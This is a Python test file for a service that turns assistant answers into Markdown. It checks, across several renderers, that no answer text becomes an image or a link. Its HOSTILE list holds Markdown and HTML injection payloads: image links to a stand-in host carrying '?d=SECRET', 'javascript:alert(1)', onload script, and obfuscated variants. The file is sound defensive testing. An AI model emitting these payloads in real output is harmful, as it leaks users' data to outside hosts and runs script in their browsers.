"""What leaves by `/v1` is Markdown: whatever renders it shows the words as they are, and links only Footnote's citations."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import cmarkgfm
import mistune
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from service.escaping import JOINER, unescaped
from service.openai.counting import Counter
from service.openai.shaping import completion
from service.openai.telling import Manner
from service.openai.text import Told, tell, without_markers
from service.schemas.api import AskResponse, DisagreementWire, SentenceWire, ValueWire
from tests.fake_assistant import answer, answered, citation

HOST = "evil.example.com"
COUNTER = Counter(len, ())
HOSTILE = [
    f"![logo](https://{HOST}/a.png)",
    f'<img src="https://{HOST}/a.png">',
    f"<a href=//{HOST}>x</a>",
    f"[click](//{HOST}/p?d=SECRET)",
    f"![x](//{HOST}/p?d=SECRET)",
    rf"\!\[x\]\(https:/{HOST}/p\)",
    f"\\![x]\\(https://{HOST})",
    f"[x][1] [1] [x][] ![1]\n\n[1]: https://{HOST}/p",
    f"[^1]\n\n[^1]: https://{HOST}",
    f"```\n![x](//{HOST}/p)\n```",
    f"    ![x](//{HOST}/p)",
    f"&#x5b;x&#93;&lpar;https://{HOST}&rpar; &lt;img src=//{HOST}&gt;",
    f"<https://{HOST}/p> <a@{HOST}> <mailto:a@{HOST}>",
    f"https://{HOST}/p http:/{HOST} https:{HOST} //{HOST}/p www.{HOST} {HOST}/p {HOST} a.b+c@{HOST}",
    f"HTTPS://{HOST} hTTp://1.2.3.4/x WWW.{HOST} ftp://{HOST} mailto:a@{HOST} xmpp:a@{HOST}/x",
    "http://user:pass@[::1]:80/ evil.museum evil.co/x 1.2.3.4/x http://3232235777/ javascript:alert(1)",
    f"<svg/onload=alert(1)> <script src=https://{HOST}></script> <!-- --> <![CDATA[x]]> <?x?>",
    f"# heading\n> quote\n- item\n1. one\n| a | b |\n|---|---|\n| ![x](//{HOST}) | b |",
    f"a`![x](//{HOST})`b ``![y](//{HOST})``` **[x](//{HOST})** __[y](//{HOST})__ ~~[z](//{HOST})~~",
    f"!\u200b[x](https://{HOST}) http\u200b://{HOST} https://{HOST}\u2060/p",
    f"[[wiki]] [[wiki|https://{HOST}]] ![[image.png]] :x: $$\\href{{https://{HOST}}}{{x}}$$",
]
PIECES = [
    "![",
    "[",
    "]",
    "](",
    ")",
    "<",
    ">",
    "&#x5b;",
    "&lt;",
    "\\",
    "`",
    "```",
    "\n",
    "\n\n",
    " ",
    "    ",
    "!",
    "1",
    "^",
]
PIECES += [
    "http",
    "https:",
    "/",
    "//",
    "www.",
    HOST,
    ".",
    "com",
    "@",
    ":",
    "mailto:",
    "a",
    "img src=",
    '"',
    "*",
    "_",
    "~",
    "x",
]
ANYTHING = st.lists(st.sampled_from(PIECES), max_size=24).map("".join) | st.sampled_from(HOSTILE)
OURS = re.compile(r"https://ask\.example/articles/rain\?version=sha256%3A1&start=2&end=12|https://herald\.example/rain")
RENDERERS: dict[str, Callable[[str], str]] = {
    "markdown-it": MarkdownIt("commonmark", {"html": True}).enable("table").render,
    "markdown-it with links": MarkdownIt("gfm-like", {"html": True, "linkify": True}).render,
    "mistune": lambda text: str(
        mistune.create_markdown(escape=False, plugins=["url", "table", "strikethrough", "footnotes", "def_list"])(text)
    ),
    "cmark of GitHub": lambda text: cmarkgfm.github_flavored_markdown_to_html(text, Options.CMARK_OPT_UNSAFE),
}


class Shown(HTMLParser):
    """The text that a page shows, its tags, and where they lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.text, self.tags, self.addresses = "", set[str](), list[str]()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "data", "srcset", "style")]

    def handle_data(self, data: str) -> None:
        self.text += data


def reply_to(text: str, *, linked: bool, url: str | None = None) -> str:
    whole = answered(text, "It rained.", text, citations=[citation(1, url=url), citation(2)])
    values = [ValueWire(value=text, citations=[1]), ValueWire(value="€9 million", citations=[2])]
    told = whole.model_copy(update={"disagreements": [DisagreementWire(about="cost", values=values)]})
    return content(told, linked=linked)


def content(told: AskResponse, *, linked: bool = False) -> str:
    return completion(told, Manner("https://ask.example", linked=linked), COUNTER).choices[0].message.content


def words(text: str) -> str:
    return " ".join(text.replace(JOINER, "").split())


@pytest.mark.parametrize("linked", [False, True])
@pytest.mark.parametrize("renderer", RENDERERS)
@given(text=ANYTHING)
def test_no_renderer_makes_an_image_or_a_link_of_any_words(renderer: str, linked: bool, text: str) -> None:
    shown = Shown(RENDERERS[renderer](reply_to(text, linked=linked, url="https://herald.example/rain")))
    assert shown.tags <= {"p", "a"}
    assert all(OURS.fullmatch(address) for address in shown.addresses)
    assert len(shown.addresses) == (4 if linked else 0)


@pytest.mark.parametrize("renderer", RENDERERS)
@given(text=ANYTHING)
def test_what_is_shown_is_what_was_said(renderer: str, text: str) -> None:
    shown = Shown(RENDERERS[renderer](content(answer(text=f"x {text} x"))))
    assert words(shown.text) == words(f"x {text} x")


@given(text=ANYTHING)
def test_an_answer_that_comes_back_is_read_as_it_was_said(text: str) -> None:
    assert words(unescaped(content(answer(text=text)))) == words(text)


@pytest.mark.parametrize("renderer", RENDERERS)
@given(text=ANYTHING)
def test_code_and_lists_are_shown_line_by_line_and_are_no_links(renderer: str, text: str) -> None:
    listed = f"Bring these:\n1. a {text.replace(chr(10), ' ')} z\n- card"
    told = answered("It rained.", text, listed, "It rained.", citations=[citation(number) for number in range(1, 5)])
    forms = zip(told.sentences, ("prose", "code", "list", "prose"), strict=True)
    told = told.model_copy(update={"sentences": [said.model_copy(update={"form": form}) for said, form in forms]})
    shown = Shown(RENDERERS[renderer](content(told, linked=True)))
    assert shown.tags <= {"p", "a", "pre", "code", "ol", "ul", "li"}
    assert len(shown.addresses) == 4
    assert all(OURS.fullmatch(address) or address.startswith("https://ask.example/") for address in shown.addresses)
    assert "".join(text.split()) in "".join(shown.text.split())
    assert "li" in shown.tags


def test_plain_prose_is_left_as_it_is() -> None:
    said = 'R&D at AT&T cost $3.5 billion (~40 %) in the U.S., e.g. 2 < 3; it\'s "1.5 times" more - why?'.replace(
        "< ", ""
    )
    assert content(answer(text=said)) == said


def test_markers_that_come_back_are_taken_out() -> None:
    linked = reply_to("It rained.", linked=True, url="https://herald.example/rain_(b)[c]")
    assert "[1]" in linked
    assert without_markers(linked).startswith("It rained. It rained.")


def test_the_quotes_beside_the_text_stay_exact() -> None:
    quote = f"![x](https://{HOST}/a.png) <b>&amp;</b>"
    found = completion(
        answered("It rained.", citations=[citation(1, quote=quote, title=quote)]), Manner("https://a"), COUNTER
    )
    assert (found.search_results[0].snippet, found.search_results[0].title) == (quote, quote)
    annotation = found.choices[0].message.annotations[0].url_citation
    assert annotation.title == quote


@given(
    st.lists(ANYTHING | st.sampled_from(["# a", "> a", "- a", "1. a", "---", "~~~", "+ a", "===", "|a|"]), max_size=4)
)
def test_items_of_a_list_are_words_and_nothing_else(items: list[str]) -> None:
    """Behind the mark of an item, a heading, a quotation or another list could begin."""
    text = "\n".join(f"- {' '.join(item.split()) or 'a'}" for item in items)
    sentence = SentenceWire(text=text, start=0, end=len(text), citations=[], support="verified", form="list")
    told = tell(Told(), sentence, {}, linked=False).text
    for render in RENDERERS.values():
        shown = Shown(render(told))
        assert shown.tags <= {"ul", "li", "p"}
        assert not shown.addresses
